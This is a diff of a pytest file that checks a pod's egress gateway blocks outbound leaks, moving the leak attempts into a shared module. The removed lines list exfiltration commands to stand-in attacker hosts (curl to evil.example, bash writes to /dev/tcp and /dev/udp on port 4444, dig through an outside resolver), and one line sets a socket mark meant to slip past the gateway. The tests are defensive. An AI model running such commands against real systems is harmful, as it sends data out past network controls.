@@ -9,21 +9,13 @@ from pathlib import Path
 import pytest
 import yaml
 
-from pod import Pod
+import leaks
+from pod import NODE, Pod
 from test_helm import REPOSITORY, of_kind, template
-from world import names
 
 # 36 is SO_MARK: what exempts the gateway's own sockets.
 SET_MARK = "python3 -c 'import socket; socket.socket().setsockopt(socket.SOL_SOCKET, 36, 0xC0FFE)'"
-LEAKS = {
-    "another host": "curl -sS -m 5 https://{nonce}.evil.example/",
-    "an address": "curl -sS -m 5 http://" + names.ATTACKER + "/{nonce}",
-    "the node": "curl -sS -m 5 http://10.98.0.1:8000/{nonce}",
-    "a raw port": "bash -c 'echo {nonce} > /dev/tcp/" + names.ATTACKER + "/4444'",
-    "UDP": "bash -c 'echo {nonce} > /dev/udp/" + names.ATTACKER + "/4444'",
-    "another resolver": "dig +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
-    "another resolver over TCP": "dig +tcp +time=2 +tries=1 @" + names.DNS + " {nonce}.evil.example",
-}
+WAYS = [way for way in leaks.WAYS if way != "Docker's resolver"]
 
 
 @pytest.fixture(scope="module")
@@ -56,11 +48,10 @@ def test_the_runner_reaches_what_the_policy_allows(pod):
         time.sleep(0.05)
 
 
-@pytest.mark.parametrize("way", LEAKS)
+@pytest.mark.parametrize("way", WAYS)
 def test_nothing_leaks(pod, world, nonce, way):
     assert works(pod)
-    pod.runner(LEAKS[way].format(nonce=nonce))
-    assert world.traces(nonce) == []
+    leaks.attempt(world, pod.runner, [way], nonce, NODE)
     assert works(pod)
 
 
@@ -84,8 +75,6 @@ def test_without_the_gateway_nothing_leaves(pod, world, nonce):
     """Killed, the pod is closed; when the kubelet has started it again, open as before."""
     assert works(pod)
     pod.kill("gateway")
-    for way in LEAKS.values():
-        pod.runner(way.format(nonce=nonce))
-    assert world.traces(nonce) == []
+    leaks.attempt(world, pod.runner, WAYS, nonce, NODE)
     pod.start_gateway()
     assert works(pod)
